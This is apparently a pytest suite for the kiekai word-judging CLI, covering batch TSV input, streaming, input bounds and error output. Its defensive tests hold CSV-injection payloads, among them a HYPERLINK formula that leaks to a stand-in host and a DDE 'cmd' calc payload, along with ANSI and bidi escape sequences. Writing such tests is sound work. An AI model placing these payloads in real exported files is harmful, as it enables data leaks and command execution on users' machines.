"""``kiekai judge`` and ``kiekai repeat`` through Typer's CliRunner."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kiekai.cli import app

pytestmark = pytest.mark.slow

runner = CliRunner()
REPO = Path(__file__).resolve().parents[1]


def run(*args: str):
    return runner.invoke(app, list(args))


def test_judge_pair_text_and_json() -> None:
    r = run("judge", "mice", "mouse")
    assert r.exit_code == 0, r.output
    assert r.stdout.startswith("ACCEPTED") and "same-lemma" in r.stdout
    r = run("judge", "black", "white", "--strictness", "lenient", "--json")
    assert r.exit_code == 0
    data = json.loads(r.stdout)
    assert data["accepted"] is False and data["relation"] == "antonym"
    assert data["strictness"] == "lenient" and data["secret"] == "black"
    assert set(data) >= {"accepted", "score", "relation", "reason", "matched"}


def test_judge_levels_differ() -> None:
    strict = json.loads(run("judge", "big", "large", "-s", "strict", "--json").stdout)
    standard = json.loads(run("judge", "big", "large", "-s", "standard", "--json").stdout)
    assert (strict["accepted"], standard["accepted"]) == (False, True)


def test_judge_batch(tmp_path) -> None:
    path = tmp_path / "pairs.tsv"
    path.write_text(
        "kind\tsecret\tguess\tnote\n"
        "x\tpeople\tperson\t\n"
        "y\tblack\twhite\tignored\n"
        "z\twater\t\t\n"
        "w\tdog\ta brown dog\t\n",
        encoding="utf-8",
    )
    r = run("judge", "--batch", str(path), "--strictness", "strict")
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.stdout), delimiter="\t"))
    assert list(rows[0]) == ["secret", "guess", "accepted", "score", "relation", "reason"]
    assert [(x["secret"], x["guess"], x["accepted"]) for x in rows] == [
        ("people", "person", "1"),
        ("black", "white", "0"),
        ("water", "", "0"),
        ("dog", "a brown dog", "0"),
    ]
    assert [x["relation"] for x in rows] == ["same-lemma", "antonym", "empty", "not-one-word"]
    assert all(0.0 <= float(x["score"]) <= 1.0 and x["reason"] for x in rows)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "not found"),
        ("secret\tanswer\nx\ty\n", "guess"),
        ("", "empty"),
    ],
)
def test_judge_batch_bad_input(tmp_path, content, message) -> None:
    path = tmp_path / "pairs.tsv"
    if content is not None:
        path.write_text(content, encoding="utf-8")
    r = run("judge", "--batch", str(path))
    assert r.exit_code == 2
    assert message in r.stderr and "Traceback" not in r.output


def test_judge_bad_arguments() -> None:
    r = run("judge", "dog", "cat", "--strictness", "loose")
    assert r.exit_code == 2 and "strict, standard or lenient" in r.stderr
    r = run("judge", "dog")
    assert r.exit_code == 2 and "SECRET and GUESS" in r.stderr


def test_repeat_command() -> None:
    r = run("repeat", "stones", "--used", "sky,rocks", "--json")
    assert r.exit_code == 0, r.output
    data = json.loads(r.stdout)
    assert data["accepted"] is True and data["matched"] == "rocks"
    assert data["used"] == ["sky", "rocks"]
    r = run("repeat", "tiger", "--used", "lion,sky")
    assert r.exit_code == 0 and r.stdout.startswith("NOT A REPEAT")
    r = run("repeat", "Dogs", "--used", "dog", "-s", "strict")
    assert r.exit_code == 0 and "REPEAT of 'dog'" in r.stdout


def test_judge_batch_from_stdin() -> None:
    r = runner.invoke(app, ["judge", "--batch", "-"], input="secret\tguess\nmice\tmouse\n")
    assert r.exit_code == 0, r.output
    lines = r.stdout.splitlines()
    assert lines[0].split("\t") == ["secret", "guess", "accepted", "score", "relation", "reason"]
    assert lines[1].split("\t")[:3] == ["mice", "mouse", "1"]


def test_loading_line_goes_to_stderr_only(monkeypatch) -> None:
    """A verdict that must load the sentence model says so in one line on stderr; stdout
    stays pure JSON / TSV. (That words in the judge's tables load nothing and print
    nothing is tested in a fresh process: tests/test_judge_speed.py.)"""
    import functools

    from kiekai import models
    from kiekai.judge import resources

    shared = resources.default_resources()

    def unloaded():  # a fresh cache of the loader: the model counts as not loaded yet
        monkeypatch.setattr(
            models,
            "sentence_model",
            functools.lru_cache(maxsize=4)(models.sentence_model.__wrapped__),
        )
        # and the process holds no encoder a command's resources could start with
        fresh = resources.Resources(wordnet=shared.wordnet())
        monkeypatch.setattr(resources, "default_resources", lambda: fresh)

    notice = "loading the sentence model"
    try:
        unloaded()
        r = run("judge", "zymurgy", "quillwort", "--json")
        assert r.exit_code == 0, r.output
        assert notice in r.stderr and notice not in r.stdout
        assert json.loads(r.stdout)["accepted"] is False
        unloaded()
        r = run("repeat", "gyrocompass", "--used", "anklebone", "--json")
        assert notice in r.stderr and json.loads(r.stdout)["matched"] is None
        unloaded()
        r = runner.invoke(
            app, ["judge", "--batch", "-"], input="secret\tguess\nquillwort\tgyrocompass\n"
        )
        assert notice in r.stderr and notice not in r.stdout
        assert r.stdout.startswith("secret\tguess\t")
        r = run("judge", "zymurgy", "quillwort")  # loaded now: nothing said
        assert notice not in r.stderr
    finally:
        resources.set_reporter(None)


def _tsv_rows(text: str) -> list[list[str]]:
    """Rows of a plain TSV (no quoting), header included."""
    return [line.split("\t") for line in text.split("\n") if line]


def test_batch_keeps_rows_whole_and_cells_as_written(tmp_path) -> None:
    path = tmp_path / "odd.tsv"
    path.write_bytes(
        "secret\tguess\r\n"  # CRLF
        "sun\u2028light\tsunlight\r\n"  # a Unicode line separator inside a cell
        '"dog\tdog\\\n'  # a quote and a backslash, taken literally
        "\n"  # a blank line is no row
        "cat\tcats\n".encode()
    )
    r = run("judge", "--batch", str(path))
    assert r.exit_code == 0, r.output
    rows = _tsv_rows(r.stdout)
    assert rows[0] == ["secret", "guess", "accepted", "score", "relation", "reason"]
    assert [row[:2] for row in rows[1:]] == [
        ["sun light", "sunlight"],  # the separator became a space; still one row
        ['"dog', "dog\\"],
        ["cat", "cats"],
    ]
    assert all(len(row) == 6 for row in rows)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "is a folder"),
        (b"secret\tguess\tsecret\ndog\tcat\tx\n", "more than once"),
        (b"secret\tguess\ncaf\xe9\tcafe\n", "not UTF-8"),
    ],
)
def test_batch_file_problems_exit_2(tmp_path, content, message) -> None:
    path = tmp_path / "bad.tsv"
    if content is None:
        path.mkdir()
    else:
        path.write_bytes(content)
    r = run("judge", "--batch", str(path))
    assert r.exit_code == 2
    assert message in r.output and "Traceback" not in r.output


def test_batch_from_stdin_refuses_bad_utf8() -> None:
    r = runner.invoke(app, ["judge", "--batch", "-"], input=b"secret\tguess\ncaf\xe9\tcafe\n")
    assert r.exit_code == 2 and "not UTF-8" in r.output


def test_words_from_undecodable_arguments_are_refused() -> None:
    r = run("judge", "caf\udce9", "cafe")  # what Python makes of the bytes caf\xe9 in argv
    assert r.exit_code == 2 and "not valid UTF-8" in r.output
    r = run("repeat", "dog", "--used", "caf\udce9")
    assert r.exit_code == 2 and "not valid UTF-8" in r.output


# ------------------------------------------------------------- --batch: streaming and bounds


def _kiekai(*args: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "kiekai", *args],
        capture_output=True, text=True, timeout=120, cwd=REPO, **kwargs,
    )  # fmt: skip


def test_batch_refuses_devices_fifos_and_folders(tmp_path) -> None:
    """Only a regular file or stdin is read: /dev/zero would fill memory, a FIFO block."""
    fifo = tmp_path / "pairs.fifo"
    os.mkfifo(fifo)
    for path, kind in (("/dev/zero", "a character device"), (str(fifo), "a FIFO"),
                       (str(tmp_path), "a folder")):  # fmt: skip
        done = _kiekai("judge", "--batch", path)
        assert done.returncode == 2, done.stderr
        assert f"is {kind}" in done.stderr and "regular file" in done.stderr
        assert done.stdout == ""


def test_batch_from_endless_stdin_stops_at_the_line_bound() -> None:
    from kiekai.commands.judge import MAX_BATCH_LINE_BYTES

    with open("/dev/zero", "rb") as zero:
        done = subprocess.run(
            [sys.executable, "-m", "kiekai", "judge", "--batch", "-"],
            stdin=zero, capture_output=True, text=True, timeout=120, cwd=REPO,
        )  # fmt: skip
    assert done.returncode == 2
    assert f"line 1 is longer than {MAX_BATCH_LINE_BYTES} bytes" in done.stderr


def test_batch_streams_verdicts_before_the_input_ends() -> None:
    """Rows are judged and written chunk by chunk: the first verdicts come out while
    standard input is still open (the old reader waited for the whole file)."""
    from kiekai.commands.judge import BATCH_CHUNK_ROWS

    process = subprocess.Popen(
        [sys.executable, "-m", "kiekai", "judge", "--batch", "-"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=REPO,
    )  # fmt: skip
    try:
        process.stdin.write(b"secret\tguess\n" + b"mice\tmouse\n" * BATCH_CHUNK_ROWS)
        process.stdin.flush()
        header = process.stdout.readline()
        first = process.stdout.readline()  # comes while stdin stays open
        assert header.startswith(b"secret\tguess\taccepted")
        assert first.startswith(b"mice\tmouse\t1\t")
        process.stdin.write(b"black\twhite\n")
        process.stdin.close()
        rest = process.stdout.read().decode().splitlines()
        assert process.wait(timeout=60) == 0
    finally:
        if process.poll() is None:
            process.kill()
    assert len(rest) == BATCH_CHUNK_ROWS  # 255 more mice rows and black/white
    assert rest[-1].startswith("black\twhite\t0\t")


def test_batch_reports_a_bad_line_by_number_after_the_rows_before_it(tmp_path) -> None:
    path = tmp_path / "pairs.tsv"
    path.write_bytes(b"secret\tguess\nmice\tmouse\ndog\t\xff\xfe\n")
    done = _kiekai("judge", "--batch", str(path))
    assert done.returncode == 2
    assert "line 3 is not UTF-8" in done.stderr
    assert done.stdout.splitlines()[1].startswith("mice\tmouse\t1")


@pytest.mark.parametrize(
    "args",
    [
        ["judge", "--batch", "/nonexistent/pairs\x1b[2J\x07\u202e.tsv"],  # a file name
        ["judge", "dog", "cat", "--strictness", "loose\x1b[2J\x07\u202e"],  # an option value
        ["repeat", "dog", "--used", "cat", "-s", "loose\x1b[2J\x07\u202e"],
    ],
)
def test_error_lines_show_user_text_escaped(args) -> None:
    """Control characters, ANSI escapes and bidi overrides in what the user gave never
    reach the terminal raw: the ``error:`` line shows them as escapes (color=True keeps
    click from stripping ANSI codes, as it does not on a real terminal)."""
    r = runner.invoke(app, args, color=True)
    assert r.exit_code == 2
    assert r.stderr.startswith("error: ") and r.stderr.count("\n") == 1
    assert "\\x1b[2J\\x07\\u202e" in r.stderr
    assert not any(c in r.stderr for c in "\x1b\x07\u202e")


def test_error_lines_show_batch_header_and_house_rules_text_escaped(tmp_path) -> None:
    batch = tmp_path / "pairs.tsv"
    batch.write_text("secret\x1b]0;title\x07\tanswer\nx\ty\n", encoding="utf-8")
    rules = tmp_path / "rules.tsv"
    rules.write_text("dog\tcat\tmaybe\u202e\x1b[31m\t*\n", encoding="utf-8")
    for args in (
        ["judge", "--batch", str(batch)],
        ["judge", "dog", "cat", "--house-rules", str(rules)],
    ):
        r = runner.invoke(app, args, color=True)
        assert r.exit_code == 2 and r.stderr.startswith("error: "), r.output
        assert not any(c in r.stderr for c in "\x1b\x07\u202e"), repr(r.stderr)


# ------------------------------------------------------------- --batch: formula cells


def test_batch_escapes_cells_spreadsheets_would_run_as_formulas(tmp_path, judges) -> None:
    """OWASP "CSV Injection": a text cell starting with =, +, - or @ gets a leading ',
    while accepted and score stay the judge's numbers (issue 20, point 7)."""
    from kiekai.commands.judge import formula_safe
    from kiekai.judge.verdict import Strictness

    pairs = [
        ("=1+1", "dog"),
        ("dog", '=HYPERLINK("http://x.example/?leak","open")'),
        ("+cmd|' /C calc'!A0", "cat"),
        ("-2+3", "@SUM(A1:A9)"),
        ("mice", "mouse"),  # plain cells unchanged
        ("e-mail", "email"),  # a dash inside a word is no formula
    ]
    path = tmp_path / "formulas.tsv"
    path.write_text("secret\tguess\n" + "".join(f"{s}\t{g}\n" for s, g in pairs), encoding="utf-8")
    r = run("judge", "--batch", str(path))
    assert r.exit_code == 0, r.output
    rows = _tsv_rows(r.stdout)[1:]
    assert len(rows) == len(pairs)
    judge = judges[Strictness.STANDARD]
    for (secret, guess), row in zip(pairs, rows, strict=True):
        verdict = judge.match(secret, guess)
        assert row[0] == formula_safe(secret) and row[1] == formula_safe(guess)
        assert row[2] == ("1" if verdict.accepted else "0")  # accepted: unchanged
        assert float(row[3]) == pytest.approx(verdict.score, abs=1e-4)  # score: unchanged
        for cell in (row[0], row[1], row[4], row[5]):
            assert not cell.startswith(("=", "+", "-", "@")), row
    assert rows[0][0] == "'=1+1" and rows[3][1] == "'@SUM(A1:A9)"
    assert rows[4][:2] == ["mice", "mouse"] and rows[4][2] == "1"
    assert rows[5][0] == "e-mail"


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=A1", "'=A1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
     ("a=b", "a=b"), ("", ""), ("'=A1", "'=A1"), ("dog", "dog")],
)  # fmt: skip
def test_formula_safe(cell, written) -> None:
    from kiekai.commands.judge import formula_safe

    assert formula_safe(cell) == written
